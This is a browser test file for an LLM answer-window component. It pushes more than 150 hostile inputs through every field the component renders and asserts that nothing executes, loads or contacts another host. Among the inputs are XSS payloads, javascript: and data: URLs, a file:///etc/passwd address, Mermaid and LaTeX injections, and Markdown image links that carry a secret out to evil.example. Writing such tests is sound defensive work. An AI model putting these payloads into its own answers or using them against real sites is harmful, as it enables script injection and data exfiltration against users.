/**
 * What a page, a model or a server may send to harm a reader: each of these texts and addresses goes through every place that the
 * element draws. Checked of the whole window with all its shadow trees: nothing ran (`harmed`), no
 * element that loads or runs something, no event handler, no address but http, https and mailto, and no request to another host.
 */
import {expect} from '@open-wc/testing';
import {loadTypesetting} from '../../client/markdown/draw-formula.ts';
import type {LlmWindow} from '../../client/elements/llm-window.ts';
import type {Said} from '../../shared/session-event.ts';
import {expectUnharmed, withMarkdown} from './support/elements.ts';
import {analyzed, answered, answerStarted, enriched, extracted, found, source, started} from './support/session-events.ts';
import {WindowStage} from './support/window-stage.ts';

const call = 'window.harmed=1';
const evil = 'https://evil.example';

const markup = [
  `<script>${call}</script>`, `<ScRiPt src=${evil}/x.js></sCrIpT>`, `<script/x>${call}</script/x>`, `"><script>${call}</script>`, `'><img src=x onerror=${call}>`, `<img src=x onerror=${call}>`, `<img/src="x"/onerror=${call}>`,
  `<img src=${evil}/pixel.png>`, `<img srcset="${evil}/a.png 1x">`, `<image href=${evil}/a.png>`, `<svg onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x>`, `<svg><use href="${evil}/a.svg#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.harmed=1</script>"></foreignObject></svg>`, `<iframe src="javascript:parent.harmed=1"></iframe>`, `<iframe srcdoc="<script>parent.harmed=1</script>">`, `<iframe src=${evil}>`, `<object data=${evil}></object>`,
  `<embed src=${evil}>`, `<link rel=stylesheet href=${evil}/a.css>`, `<link rel=prefetch href=${evil}>`, `<link rel=dns-prefetch href=${evil}>`, `<style>*{background:url(${evil}/css.png)}</style>`, `<style>@import "${evil}/a.css";</style>`, `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href=${evil}/>`, `<form action=${evil}><button>x</button></form>`, `<button formaction=javascript:${call}>x</button>`, `<input autofocus onfocus=${call}>`, `<details open ontoggle=${call}>x</details>`, `<body onload=${call}>`, `<video autoplay><source onerror=${call} src=x></video>`,
  `<video poster=${evil}/p.png></video>`, `<audio src=${evil}/a.mp3 onerror=${call}>`, `<marquee onstart=${call}>x</marquee>`, `<div style="background:url(${evil}/d.png)">x</div>`, `<a href="javascript:${call}">x</a>`, `<a href=x ping=${evil}>x</a>`, `<math><mtext><script>${call}</script></mtext></math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${call}">x</maction></math>`, `<template><script>${call}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<!--><img src=x onerror=${call}>-->`, `<![CDATA[<script>${call}</script>]]>`, `<?xml-stylesheet href="javascript:${call}"?>`,
  `<p title="</p><script>${call}</script>">`, `<x onclick=${call}>x</x>`, `<slot onslotchange=${call}></slot>`, `<llm-window server=${evil} question=x></llm-window>`, `<div part=text popover>x</div>`, `<portal src=${evil}>`, `<keygen autofocus onfocus=${call}>`, `<table background=${evil}/t.png>`,
  `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;img src=x onerror=${call}&#62;`, `\u003cscript\u003e${call}\u003c/script\u003e`, `%3Cscript%3E${call}%3C/script%3E`, `\0<script>${call}</script>`, `<scr\0ipt>${call}</script>`, `<<script>script>${call}</script>`, `\${${call}}`, `{{constructor.constructor('${call}')()}}`, `__proto__`, `constructor`,
];

const addresses = [
  `javascript:${call}`, `JAVASCRIPT:${call}`, `jAvAsCrIpT:${call}`, ` javascript:${call}`, `\tjavascript:${call}`, `java\nscript:${call}`, `java\tscript:${call}`, `\u0001javascript:${call}`, `\u00a0javascript:${call}`, `javascript&colon;${call}`, `javascript&#58;${call}`, `&#106;avascript:${call}`, `java&Tab;script:${call}`,
  `java&NewLine;script:${call}`, `%6Aavascript:${call}`, `javascript:${call}//https://x.example`, `javascript://x.example/%0a${call}`, 'vbscript:msgbox(1)', `data:text/html,<script>${call}</script>`, 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=', `data:image/svg+xml,<svg onload=${call}>`, 'data:text/javascript,window.harmed=1',
  'file:///etc/passwd', `blob:${evil}/1`, 'about:blank', `view-source:${evil}`, `filesystem:${evil}/x`, `feed:javascript:${call}`, `jar:${evil}!/x`, 'ms-settings:x', 'intent://x#Intent;end', 'tel:+1', 'sms:+1', 'ws://evil.example', `//evil.example/a`, '/v1/../../evil', '#x', `https:javascript:${call}`, `https://user:secret@evil.example`, `https://evil.example"onmouseover="${call}`,
  `https://evil.example/' onclick='${call}`, `https://evil.example/)![x](${evil}/y.png`, `https://evil.example/\u202egnp.exe`, `http://[::1]:8080/<script>`, `https://evil.example\\@good.example`, 'https:///evil.example', `${evil}/?q=%22%3E%3Cscript%3E`, 'x'.repeat(3_000),
];

/** Ways to carry a secret away, or to be drawn as something else, that only Markdown has. */
const markdown = [
  `![secret](${evil}/a.png?q=secret)`, `![secret][i]\n\n[i]: ${evil}/b.png`, `[![x](${evil}/c.png)](${evil})`, `![](<${evil}/d.png> "t")`, `<img src="${evil}/e.png">`, `![x](${evil}/\\).png)`, `[x](javascript:${call})`, `[x](<javascript:${call}>)`, `[x]: javascript:${call}\n\n[x]`, `[x]: data:text/html,x\n\n![x]`, `<javascript:${call}>`,
  `[a](${evil} "\\" onclick=${call} \\"")`, `[a](${evil}" onclick="${call})`, `[1]: javascript:${call}\n\n[x][1] [1]`, `[^x]: <script>${call}</script>\n\ny[^x]`, `y[^"onclick="${call}]\n\n[^"onclick="${call}]: z`, `y[^__proto__]\n\n[^__proto__]: ![z](${evil}/f.png)`, `$\\href{javascript:${call}}{x}$`, `$$\\url{javascript:${call}}$$`,
  `$\\includegraphics{${evil}/g.png}$`, `\\(\\style{background:url(${evil}/h.png)}{x}\\)`, `\\[\\class{x" onclick="${call}}{y}\\]`, `$\\text{<img src=x onerror=${call}>}$`, `$\\color{red;background:url(${evil})}x$`, `\`\`\`js"onclick="${call}\nx\n\`\`\``, `\`\`\`"><script>${call}</script>\nx\n\`\`\``, `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  `\`\`\`mermaid\nflowchart LR\n A["<img src=x onerror=parent.harmed=1>"]\n click A href "javascript:${call}"\n\`\`\``, `\`\`\`mermaid\n%%{init: {"themeCSS": "*{background:url(${evil}/i.png)}"}}%%\npie\n "a": 1\n\`\`\``, `~~~ x\u0000y\n<script>${call}</script>\n~~~`, `| <script>${call}</script> |\n|---|\n| ![x](${evil}/j.png) |`,
  `- [ ] <img src=x onerror=${call}>`, `# <svg onload=${call}>`, `> <iframe src=${evil}>`, `www.evil.example/"onclick="${call}`, `https://evil.example/\`<img src=x onerror=${call}>\``, `[x](${evil})<script>${call}</script>`, `&lt;img src=x onerror=${call}&gt;`, `\\<script>${call}\\</script>`, `[[1]](javascript:${call})`, `[1](javascript:${call})`, `**<b onclick=${call}>x</b>**`,
  `<a href="${evil}">\n\n![x](${evil}/k.png)\n\n</a>`, `[x](vbscript:x "![y](${evil}/l.png)")`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYXJtZWQ9MSI+)`,
];

const inputs = [...new Set([...markup, ...addresses, ...markdown])];

const forbidden = 'applet audio base embed frame frameset image img link meta object portal script source style template track video'.split(' ');
const addressed = ['action', 'background', 'cite', 'data', 'formaction', 'href', 'longdesc', 'manifest', 'ping', 'poster', 'src', 'srcdoc', 'srcset', 'xlink:href'];

/** What must not be in a window. */
function dangersIn(root: ParentNode, server: string): string[] {
  return [...root.querySelectorAll('*')].flatMap((node) => [
    ...(forbidden.includes(node.localName) ? [`<${node.localName}>`] : []),
    ...(node instanceof HTMLIFrameElement && !isDiagram(node, server) ? [node.outerHTML] : []),
    ...[...node.attributes].flatMap(({name, value}) => {
      const isHandler = name.startsWith('on');
      const leads = addressed.includes(name) && !(name === 'href' && value.startsWith('#')) && !/^(?:https?|mailto):/.test(value);
      return isHandler || leads || (name === 'style' && /url\(|expression/i.test(value)) ? [`<${node.localName} ${name}="${value}">`] : [];
    }),
    ...(node instanceof HTMLAnchorElement && node.hasAttribute('href') && !/^(?:https?|mailto):$/.test(node.protocol) ? [node.href] : []),
    ...(node.shadowRoot ? dangersIn(node.shadowRoot, server) : []),
  ]);
}

/** The answer server's own page for diagrams, in an origin of its own. */
const isDiagram = ({src, sandbox, attributes}: HTMLIFrameElement, server: string) => src === `${server}/diagram/` && sandbox.value === 'allow-scripts' && !('srcdoc' in attributes);

/** Besides those for diagrams of the answer servers themselves: what an earlier input asked of its own may be noted late. */
const requestsElsewhere = () =>
  performance.getEntriesByType('resource').map(({name}) => name).filter((name) => !name.startsWith(location.origin) && !/^https:\/\/stage-\d+\.example\/diagram\/$/.test(name));

/** Every place that shows something from outside. */
function places(x: string): Said[] {
  const hit = {id: x, url: x, title: x, snippet: x, age: x, siteName: x};
  return [
    started([x, 'm1'], x),
    analyzed(x),
    {type: 'search-wait', provider: x, query: x, waitMs: 5, reason: x},
    {type: 'search-retry', provider: x, query: x, attempt: 2, inMs: 5, code: x},
    {type: 'search-error', provider: x, query: x, code: x, message: x, next: x},
    found(1, hit),
    found(2, {...hit, id: 'p2', url: 'https://ok.example'}),
    {...extracted(1), title: x, url: x} as Said,
    {type: 'page-error', id: 'p2', url: x, code: x, message: x},
    enriched(source(1, {url: x, title: x, age: x, siteName: x, author: x, language: x}), source(2, {title: x})),
    {type: 'session-warning', code: x, message: x},
    answerStarted(x),
    {type: 'answer-reasoning-delta', model: x, text: x},
    {type: 'answer-retry', model: x, attempt: 2, inMs: 5, code: x},
    ...[`${x}\n\n`, `[a](${x}) ![${x}](${x}) ![b](${x}) <${x}> [c](https://ok.example "${x}") [${x}](https://ok.example)\n\n`, `$${x}$ \\(${x}\\) [1][2]\n\n[^n]: ${x}\n\nz[^n] y[^${x}]\n\n| ${x} |\n|---|\n\n# ${x}\n\n`, `\`\`\`${x}\n${x}\n\`\`\`\n\n\`\`\`mermaid\n${x}\n\`\`\`\n\n[r]: ${x} "${x}"\n\n[r] ![r]\n`].map(
      (text): Said => ({type: 'answer-delta', model: x, text}),
    ),
    {...answered(x), citations: [{n: 1, start: 0, end: 3, quote: x, supported: false}]} as Said,
    answerStarted('m1'),
    {type: 'answer-reset', model: 'm1', reason: x, next: x},
    {type: 'answer-error', model: 'm1', code: x, message: x, partial: false},
    {type: 'synthesis-start', model: x, answers: [x]},
    {type: 'synthesis-delta', text: x},
    {type: 'synthesis-error', model: x, code: x, message: x, partial: true},
    {type: 'related-questions', questions: [x]},
    {type: 'session-end', outcome: 'failed', code: x, ms: 5},
  ];
}

describe('hostile inputs', () => {
  let stage: WindowStage;
  before(async () => {
    await withMarkdown();
    await loadTypesetting();
  });
  beforeEach(() => {
    stage = new WindowStage();
    performance.clearResourceTimings();
  });
  afterEach(() => stage.close());

  it('are more than 150, each in some thirty places', () => {
    expect(inputs.length).to.be.greaterThan(150);
    expect(JSON.stringify(places('@@')).split('@@').length).to.be.greaterThan(60);
  });

  it('would be noticed', () => {
    const host = document.createElement('div');
    const root = host.attachShadow({mode: 'open'});
    for (const [tag, name, value] of [['img', 'src', 'x'], ['a', 'href', 'javascript:1'], ['p', 'onclick', '1'], ['b', 'style', 'background:url(x)'], ['iframe', 'src', evil]] as const) {
      const element = document.createElement(tag);
      if (tag === 'img') element.setAttribute('alt', '');
      else element.setAttribute(name, value);
      root.append(element);
    }
    const outer = document.createElement('div');
    outer.append(host);
    expect(dangersIn(outer, stage.address)).to.have.length(6); // the link is one twice
  });

  for (const input of inputs) {
    it(`do no harm: ${JSON.stringify(input.slice(0, 70))}`, async () => {
      const element: LlmWindow = await stage.window();
      element.ask('Why?');
      await stage.streaming(element);
      const said = places(input);
      said.forEach((one, index) => stage.sources.last.say({...one, at: 0}, index + 1));
      await stage.drawn(element);
      expect(element.shadowRoot!.querySelector('llm-answers')).not.to.be.null;
      expect(dangersIn(element.shadowRoot!, stage.address)).to.deep.equal([]);
      expect(requestsElsewhere()).to.deep.equal([]);
      expectUnharmed();
    });
  }
});
